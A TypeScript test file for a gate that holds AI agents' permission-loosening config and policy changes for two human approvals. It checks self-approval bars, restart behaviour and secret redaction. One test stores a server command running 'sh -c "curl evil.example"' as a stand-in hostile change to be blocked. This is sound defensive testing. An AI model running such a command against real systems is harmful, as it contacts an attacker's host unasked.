/**
 * Whoever can write the files is not whoever may decide: what loosens who may do what waits for people, and what only tightens
 * is in force at once.
 */
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import type { Entry } from '../../src/core/entry.ts';
import {
  eventually,
  operations,
  policies,
  startTestGate,
  type Answer,
  type TestGate,
} from '../support/gate.ts';

/** Three who may accept changes; Sam owns the agent. */
const people = `
people:
  - { id: sam, name: Sam Lee, groups: [data-owners, platform, admins] }
  - { id: rosa, name: Rosa Diaz, groups: [data-owners, admins] }
  - { id: mia, name: Mia Chen, groups: [data-owners, security, admins] }
  - { id: lee, name: Lee Park, groups: [security] }
agents:
  - { id: crm-bot, owners: [sam], groups: [support-agents] }
  - { id: ci-bot, owners: [lee] }
roles: { operators: platform, auditors: security }
changes: { people: 2, proposers: [ci-bot] }
`;

/** Agents may refund, and nothing else. */
const narrow = policies.replace(
  'permit (principal, action, resource)',
  'permit (principal, action == Action::"shop___refund", resource)',
);
const wipe = '@id("wipe") @title("More") permit (principal, action == Action::"shop___wipe", resource);\n';

interface Waits {
  readonly id: string;
  readonly digest: string;
  readonly input: Readonly<Record<string, unknown>>;
}

interface Scene {
  readonly gate: TestGate;
  /** Tokens by person or agent. */
  readonly as: Readonly<Record<string, string>>;
  /** Writes the policies as whoever can write files does. */
  policies(text: string): Promise<void>;
  config(text: string): Promise<void>;
  /** What waits; undefined where nothing does. */
  waiting(): Promise<Waits | undefined>;
  asked(): Promise<Waits>;
  review(one: Waits, by: string, decision?: 'approve' | 'deny'): Promise<Answer>;
  refund(cents: number): Promise<string>;
  wipe(): Promise<string>;
  log(type: string): Promise<readonly Entry[]>;
}

/** Every answer as one word: the code of a refusal, else the state. */
const word = ({ body }: Answer): string => String(body.code ?? body.state);

async function scene(t: TestContext, config = people + operations, text = narrow): Promise<Scene> {
  const gate = await startTestGate({ config, policies: text });
  t.after(() => gate.stop());
  const ids = [...config.matchAll(/id: ([\w-]+), (name|owners)/g)];
  const as = Object.fromEntries(
    await Promise.all(
      ids.map(
        async ([, id = '', kind]) =>
          [id, await gate.token(kind === 'name' ? 'person' : 'agent', id)] as const,
      ),
    ),
  );
  const store = () => gate.gate().parts.store;
  const ask = async (operation: string, input: object): Promise<string> =>
    word(await gate.call(as['crm-bot'] ?? null, 'POST', '/v1/actions', { operation, input }));
  const waiting = async (): Promise<Waits | undefined> => {
    const held = await store().newestChange();
    if (held?.approval == null || held.ending !== null || held.execution !== null) return undefined;
    const { digest, action } = held.asked;
    return { id: held.approval.id, digest, input: action.input };
  };
  const one: Scene = {
    gate,
    as,
    policies: (next) => writeFile(join(gate.folder, 'policies', 'test.cedar'), next),
    config: (next) => writeFile(join(gate.folder, 'countersign.yaml'), `listen: 127.0.0.1:0\n${next}`),
    waiting,
    async asked() {
      let found: Waits | undefined;
      await eventually(async () => (found = await waiting()) !== undefined, 'an approval of the change');
      assert.ok(found !== undefined);
      return found;
    },
    review: (waits, by, decision = 'approve') =>
      gate.call(as[by] ?? null, 'POST', `/v1/approvals/${waits.id}/reviews`, {
        decision,
        digest: waits.digest,
        ...(decision === 'deny' ? { reason: 'no' } : {}),
      }),
    refund: (cents) => ask('shop___refund', { cents }),
    wipe: () => ask('shop___wipe', {}),
    log: async (type) =>
      (await store().entries(-1, 1000)).map((sealed) => sealed.entry).filter((entry) => entry.type === type),
  };
  return one;
}

test('config-change: a permit that an agent adds on disk waits for two, and is in force with the second', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const waits = await one.asked();
  assert.equal(await one.wipe(), 'no_permit');
  assert.match(JSON.stringify(waits.input), /permit \(principal, action == Action::\\"shop___wipe/);
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  assert.equal(await one.wipe(), 'no_permit', 'one of two is not enough');
  const again = await one.review(waits, 'rosa');
  assert.equal(again.body.code, 'already_reviewed', 'one admin twice is one admin');
  assert.equal((await one.review(waits, 'lee')).body.code, 'not_an_approver', 'no admin');
  const agent = await one.gate.call(one.as['crm-bot'] ?? '', 'POST', `/v1/approvals/${waits.id}/reviews`, {
    decision: 'approve',
    digest: waits.digest,
  });
  assert.equal(agent.body.code, 'not_a_person');
  const last = await one.review(waits, 'mia');
  assert.deepEqual([last.status, last.body.status], [201, 'approved'], JSON.stringify(last.body));
  assert.equal(await one.wipe(), 'ready');
  assert.equal(await one.waiting(), undefined);
  const [first, second, ...more] = await one.log('policies.accepted');
  assert.deepEqual([first?.data['how'], second?.data['how'], more], ['first', 'reviewed', []]);
  assert.deepEqual(second?.data['people'], ['rosa', 'mia']);
  assert.equal(second?.about.execution, (await one.log('execution.succeeded')).at(-1)?.about.execution);
});

test('taking everybody out of admins makes nobody an admin, and a denial ends it until files change', async (t) => {
  const one = await scene(t);
  const mine = people
    .replaceAll(', admins]', ']')
    .replace('groups: [security] }', 'groups: [security, admins] }');
  await one.config(mine + operations);
  const stuck = async (): Promise<string | null> => one.gate.gate().parts.world.config().stuck;
  // Whoever is out is out at once, and whoever came in is not in: so nobody is left who could accept it.
  await eventually(async () => (await stuck()) !== null, 'a change that nobody can accept');
  assert.equal(await one.waiting(), undefined);
  await eventually(async () => (await one.log('config.refused')).length > 0, 'an entry of it');
  const [refused] = await one.log('config.refused');
  assert.match(JSON.stringify(refused?.data['reason']), /config accept/);
  const directory = await one.gate.gate().parts.store.directory();
  assert.deepEqual(
    directory.people.filter((person) => person.groups.some((group) => group === 'admins')),
    [],
  );
  const shown = await one.gate.call(one.as['sam'] ?? '', 'GET', '/v1/config');
  assert.match(shown.body.stuck, /config accept/);
});

test('a denied change is not asked again by a restart, and is by another change of the files', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa', 'deny')).status, 201);
  await one.gate.restart();
  assert.equal(await one.waiting(), undefined);
  assert.equal(await one.wipe(), 'no_permit');
  await one.policies(narrow + wipe.replace('More', 'More of it'));
  const next = await one.asked();
  assert.notEqual(next.id, waits.id);
  await one.policies(narrow + wipe);
  await eventually(async () => {
    const now = await one.waiting();
    return now !== undefined && now.id !== next.id;
  }, 'the first one again, because the files changed in between');
});

test('renamed people, swapped ids and other owners wait; what they decide stays theirs', async (t) => {
  const one = await scene(t);
  const swapped = people
    .replace('{ id: rosa, name: Rosa Diaz', '{ id: rosa, name: Sam Lee')
    .replace('{ id: sam, name: Sam Lee', '{ id: sam, name: Rosa Diaz')
    .replace('owners: [sam]', 'owners: [rosa]');
  await one.config(swapped + operations);
  const waits = await one.asked();
  assert.match(JSON.stringify(waits.input), /renames Rosa Diaz \(rosa\) to Sam Lee/);
  assert.match(JSON.stringify(waits.input), /gives the agent crm-bot to rosa \(was sam\)/);
  const { people: known, agents } = await one.gate.gate().parts.store.directory();
  assert.equal(known.find((person) => person.id === 'rosa')?.name, 'Rosa Diaz');
  assert.deepEqual(agents[0]?.owners, ['sam']);
});

test('a forbid that is removed and comes back as another one stays what it was', async (t) => {
  const one = await scene(t);
  assert.equal(await one.refund(200_000), 'forbidden');
  const weaker = narrow.replace('context.input.cents > 100000', 'context.input.cents > 100000000');
  await one.policies(narrow.replace(/@id\("refund.never"\)[\s\S]*$/, ''));
  const removed = await one.asked();
  assert.equal(await one.refund(200_000), 'forbidden');
  await one.policies(weaker);
  await eventually(async () => (await one.waiting())?.id !== removed.id, 'another candidate');
  const waits = await one.asked();
  assert.equal(await one.refund(200_000), 'forbidden');
  assert.match(JSON.stringify(waits.input), /changes the text of the forbid refund.never/);
  const old = await one.review(removed, 'rosa');
  assert.equal(old.body.code, 'approval_closed', 'what the files no longer say cannot be approved');
});

test('config-change: what tightens is in force at once while the rest waits', async (t) => {
  const one = await scene(t);
  assert.equal(await one.refund(150), 'pending');
  assert.equal(await one.refund(50), 'ready');
  const small =
    '@id("no.small") @title("No small ones") forbid (principal, action == Action::"shop___refund", resource) when { context.input.cents < 60 };\n';
  await one.policies(narrow + wipe + small);
  await one.asked();
  assert.equal(await one.refund(50), 'forbidden');
  assert.equal(await one.wipe(), 'no_permit');
  const [, tightened] = await one.log('policies.accepted');
  assert.equal(tightened?.data['how'], 'tightened');
});

test('observing, other profiles and other commands wait; taking them away does not', async (t) => {
  const one = await scene(t);
  const observed = people + operations.replace('profile:', 'mode: observe\n    profile:');
  await one.config(observed);
  await one.asked();
  assert.equal(await one.refund(150), 'pending', 'still enforced');
  assert.deepEqual(one.gate.gate().parts.world.observed(), []);
  // An operation that is gone is refused, and not judged by its name alone.
  await one.config(people);
  await eventually(async () => (await one.refund(10)) === 'tool_disabled', 'an operation that is taken away');
});

test('a server that points elsewhere is not served until people accepted that', async (t) => {
  const server = (command: string): string => `servers:\n  files: { command: [${command}] }\n`;
  const one = await scene(t, people + operations + server('"true"'));
  const served = (): readonly string[] =>
    one.gate
      .gate()
      .parts.world.inForce()
      .servers.map(({ name }) => name);
  assert.deepEqual(served(), ['files']);
  await one.config(people + operations + server('sh, "-c", "curl evil.example"'));
  const waits = await one.asked();
  assert.match(JSON.stringify(waits.input), /curl evil\.example/);
  assert.deepEqual(served(), []);
  assert.equal(one.gate.gate().parts.world.catalog.isServer('files'), true);
  await one.config(people + operations + server('"true"'));
  await eventually(() => served().length === 1, 'the accepted server again');
  await eventually(async () => (await one.waiting()) === undefined, 'withdrawn');
});

test('config-change: an author cannot approve, and their name cannot be taken off', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const found = await one.asked();
  const { body } = await one.gate.call(one.as['sam'] ?? '', 'GET', '/v1/config');
  const propose = (by: string, more: object = {}) =>
    one.gate.call(one.as[by] ?? '', 'POST', '/v1/config/proposals', { candidate: body.candidate, ...more });
  assert.equal((await propose('crm-bot')).body.code, 'not_permitted');
  assert.equal((await propose('ci-bot')).body.code, 'input_invalid', 'a CI identity names an author');
  assert.equal((await propose('rosa', { author: 'mia' })).body.code, 'input_invalid', 'nobody names another');
  const wrong = await one.gate.call(one.as['rosa'] ?? '', 'POST', '/v1/config/proposals', {
    candidate: `sha256:${'0'.repeat(64)}`,
  });
  assert.equal(wrong.body.code, 'digest_mismatch');
  const proposed = await propose('rosa');
  assert.deepEqual([proposed.status, proposed.body.author], [201, 'rosa'], JSON.stringify(proposed.body));
  assert.equal((await one.review(found, 'mia')).body.code, 'approval_closed');
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa')).body.code, 'no_self_approval');
  assert.equal((await propose('mia')).body.code, 'not_permitted', 'Rosa stands for it');
  assert.equal((await one.review(waits, 'sam')).status, 201);
  assert.equal(await one.wipe(), 'no_permit');
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'ready');
  const changes = await one.gate.gate().parts.store.changes(0);
  assert.deepEqual(
    changes.map(({ what, id, by, acceptedBy }) => [what, id, by, acceptedBy]),
    [['policy', 'wipe', 'rosa', 'sam']],
  );
});

test('a CI identity names author and approver; the author is barred, the approver fills no place', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  await one.asked();
  const { body } = await one.gate.call(one.as['ci-bot'] ?? '', 'GET', '/v1/config');
  const proposed = await one.gate.call(one.as['ci-bot'] ?? '', 'POST', '/v1/config/proposals', {
    candidate: body.candidate,
    author: 'mia',
    approver: 'rosa on the forge',
  });
  assert.equal(proposed.status, 201, JSON.stringify(proposed.body));
  const waits = await one.asked();
  assert.equal(waits.input['approver'], 'rosa on the forge');
  assert.equal((await one.review(waits, 'mia')).body.code, 'no_self_approval');
  assert.equal((await one.review(waits, 'sam')).status, 201);
  assert.equal(await one.wipe(), 'no_permit');
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  assert.equal(await one.wipe(), 'ready');
});

test('config-change: whoever owns the CI identity names somebody else as the author, and accepts it alone', async (t) => {
  const owned = people
    .replace('{ id: ci-bot, owners: [lee] }', '{ id: ci-bot, owners: [rosa] }')
    .replace('security, admins', 'security');
  const one = await scene(t, owned + operations);
  await one.policies(narrow + wipe);
  const found = await one.asked();
  const { body } = await one.gate.call(one.as['ci-bot'] ?? '', 'GET', '/v1/config');
  const named = await one.gate.call(one.as['ci-bot'] ?? '', 'POST', '/v1/config/proposals', {
    candidate: body.candidate,
    author: 'sam',
  });
  assert.equal(named.body.code, 'nobody_left', JSON.stringify(named.body));
  assert.equal((await one.asked()).id, found.id, 'what asks both of them goes on');
  assert.equal((await one.review(found, 'rosa')).status, 201);
  assert.equal(await one.wipe(), 'no_permit');
  assert.equal((await one.review(found, 'sam')).status, 201);
  assert.equal(await one.wipe(), 'ready');
});

test('config-change: whoever owns the CI identity fills no place of what it stands for', async (t) => {
  const owned = people.replace('{ id: ci-bot, owners: [lee] }', '{ id: ci-bot, owners: [rosa] }');
  const one = await scene(t, owned + operations);
  await one.policies(narrow + wipe);
  await one.asked();
  const { body } = await one.gate.call(one.as['ci-bot'] ?? '', 'GET', '/v1/config');
  const proposed = await one.gate.call(one.as['ci-bot'] ?? '', 'POST', '/v1/config/proposals', {
    candidate: body.candidate,
    author: 'lee',
  });
  assert.equal(proposed.status, 201, JSON.stringify(proposed.body));
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa')).body.code, 'no_self_approval');
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'no_permit');
  assert.equal((await one.review(waits, 'sam')).status, 201);
  assert.equal(await one.wipe(), 'ready');
});

test('whoever is removed meanwhile counts no more, and a new approval is asked', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const before = await one.asked();
  assert.equal((await one.review(before, 'rosa')).status, 201);
  await one.config(people.replace(/.*id: rosa.*\n/, '') + operations);
  await eventually(async () => (await one.waiting())?.id !== before.id, 'another approval, of another base');
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa')).status, 401, 'out at once');
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'no_permit', 'what Rosa said of another approval counts for nothing');
  assert.equal((await one.review(waits, 'sam')).status, 201);
  assert.equal(await one.wipe(), 'ready');
  const { people: known } = await one.gate.gate().parts.store.directory();
  assert.equal(
    known.some((person) => person.id === 'rosa'),
    false,
    'accepted as a whole now',
  );
});

test('config-change: a restart accepts nothing, and keeps what people said', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  await one.gate.restart();
  assert.equal(await one.wipe(), 'no_permit');
  assert.equal((await one.waiting())?.id, waits.id, 'the same approval');
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'ready');
  await one.gate.restart();
  assert.equal(await one.wipe(), 'ready');
});

test('killed between the last review and putting it in force, the next start does that, once', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  const { store } = one.gate.gate().parts;
  const change = store.change.bind(store);
  t.mock.method(store, 'change', (...args: Parameters<typeof change>) =>
    args[0].kind === 'applyChange'
      ? Promise.resolve({ ok: false, error: { kind: 'fault', detail: 'killed' } } as const)
      : change(...args),
  );
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'no_permit', 'approved is not in force');
  await one.gate.restart();
  assert.equal(await one.wipe(), 'ready');
  assert.equal(
    (await one.log('policies.accepted')).filter((entry) => entry.data['how'] === 'reviewed').length,
    1,
  );
});

test('no agent asks for what is the gate’s own, under whatever name', async (t) => {
  const one = await scene(t, people + operations, policies);
  const ask = (operation: string) =>
    one.gate.call(one.as['crm-bot'] ?? '', 'POST', '/v1/actions', { operation, input: {} });
  assert.equal((await ask('gate___change_config')).body.code, 'not_permitted');
  assert.equal((await ask('gate___anything')).body.code, 'not_permitted');
  const evaluated = await one.gate.call(one.as['crm-bot'] ?? '', 'POST', '/access/v1/evaluation', {
    subject: { type: 'Agent', id: 'crm-bot' },
    action: { name: 'gate___change_config' },
    resource: { type: 'Server', id: 'gate' },
  });
  assert.equal(evaluated.body.decision, false);
  const token = await one.gate.token('agent', 'gate');
  assert.equal(
    (await one.gate.call(token, 'POST', '/v1/actions', { operation: 'shop___refund', input: { cents: 1 } }))
      .status,
    401,
  );
  await one.policies(policies + wipe);
  const waits = await one.asked();
  assert.equal((await one.gate.call(token, 'POST', `/v1/approvals/${waits.id}/cancel`, {})).status, 401);
  for (const reserved of [
    `${people}servers:\n  gate: { command: ["true"] }\n`,
    `${people}operations:\n  gate___change_config: { input: { type: object } }\n`,
    people.replace('id: crm-bot', 'id: gate'),
  ]) {
    await one.config(reserved);
    await eventually(async () => (await one.refund(1)) === 'policy_error', 'a configuration that is refused');
    await one.config(people + operations);
    await eventually(async () => (await one.refund(1)) === 'ready', 'the configuration again');
  }
});

test('a company of one changes what it likes, recorded, and is not alone once it took a second in', async (t) => {
  const alone = `
people:
  - { id: sam, name: Sam Lee, groups: [platform] }
agents:
  - { id: crm-bot, owners: [sam] }
roles: { operators: platform }
`;
  const one = await scene(t, alone + operations);
  await one.policies(narrow + wipe);
  await eventually(async () => (await one.wipe()) === 'ready', 'accepted as found');
  assert.equal(await one.waiting(), undefined);
  const accepted = (await one.log('policies.accepted')).at(-1);
  assert.equal(accepted?.data['how'], 'found');
  const two = alone.replace(
    'groups: [platform] }',
    'groups: [platform, admins] }\n  - { id: rosa, name: Rosa Diaz, groups: [admins] }',
  );
  await one.config(two + operations);
  await eventually(async () => (await one.gate.gate().parts.store.directory()).people.length === 2, 'two');
  await one.policies(narrow);
  await eventually(async () => (await one.wipe()) === 'no_permit', 'tightened');
  await one.policies(narrow + wipe);
  await one.asked();
  assert.equal(await one.wipe(), 'no_permit');
  // Taking the other out of the file makes nobody alone.
  await one.config(alone + operations);
  const standing = () => one.gate.gate().parts.world.config();
  await eventually(() => standing().stuck !== null, 'nobody left');
  const { candidate } = standing();
  assert.equal(await one.wipe(), 'no_permit');
  await one.policies(narrow + wipe.replace('More', 'More of it'));
  await eventually(() => standing().candidate !== candidate, 'another look at the files');
  assert.equal(await one.wipe(), 'no_permit', 'nor by the next change');
});

test('two people change their configuration, each with the other', async (t) => {
  const two = `
people:
  - { id: sam, name: Sam Lee, groups: [admins] }
  - { id: rosa, name: Rosa Diaz, groups: [admins] }
agents:
  - { id: crm-bot, owners: [sam] }
roles: { operators: admins, admins: admins }
`;
  const one = await scene(t, two + operations);
  await one.policies(narrow + wipe);
  await one.asked();
  const { body } = await one.gate.call(one.as['sam'] ?? '', 'GET', '/v1/config');
  await one.gate.call(one.as['sam'] ?? '', 'POST', '/v1/config/proposals', { candidate: body.candidate });
  const waits = await one.asked();
  assert.equal((await one.review(waits, 'sam')).body.code, 'no_self_approval');
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  assert.equal(await one.wipe(), 'ready');
  // Found on disk, nobody is known to have made it: both must agree.
  await one.policies(narrow + wipe.replace('shop___wipe', 'shop___burn'));
  const found = await one.asked();
  assert.equal((await one.review(found, 'sam')).status, 201);
  assert.ok((await one.waiting()) !== undefined);
  assert.equal((await one.review(found, 'rosa')).status, 201);
  assert.equal(await one.waiting(), undefined);
});

test('the door at the machine accepts, is recorded, and is shown', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  await one.asked();
  await one.gate.acceptConfig();
  await eventually(async () => (await one.wipe()) === 'ready', 'accepted at the machine');
  assert.equal(await one.waiting(), undefined, 'nothing waits any more');
  const accepted = (await one.log('policies.accepted')).at(-1);
  assert.deepEqual([accepted?.data['how'], accepted?.by.kind], ['machine', 'operator']);
  const { body } = await one.gate.call(one.as['sam'] ?? '', 'GET', '/v1/config');
  assert.notEqual(body.acceptedAtMachineAt, null);
});

test('broken policies are mended by approval, although nothing can be judged meanwhile', async (t) => {
  const one = await scene(t);
  await one.policies(narrow + wipe);
  const waits = await one.asked();
  await one.policies('this is no policy');
  await eventually(async () => (await one.refund(1)) === 'policy_error', 'everything denied');
  assert.equal((await one.review(waits, 'rosa')).status, 201);
  await one.policies(narrow + wipe);
  await eventually(async () => (await one.refund(1)) === 'ready', 'mended');
  assert.equal((await one.waiting())?.id, waits.id);
  assert.equal((await one.review(waits, 'mia')).status, 201);
  assert.equal(await one.wipe(), 'ready');
});

test('nothing of a file is a secret that the log or an approval tells', async (t) => {
  const one = await scene(t);
  const server =
    'servers:\n  crm: { url: "https://crm.example/mcp", headers: { authorization: "Bearer sk-very-secret-1" } }\n';
  await one.config(people + operations + server);
  const waits = await one.asked();
  assert.doesNotMatch(JSON.stringify(waits), /very-secret/);
  const held = await one.gate.gate().parts.store.candidate(String(waits.input['candidate']) as never);
  assert.doesNotMatch(JSON.stringify(held), /very-secret/);
  assert.match(await readFile(join(one.gate.folder, 'countersign.yaml'), 'utf8'), /very-secret/);
});
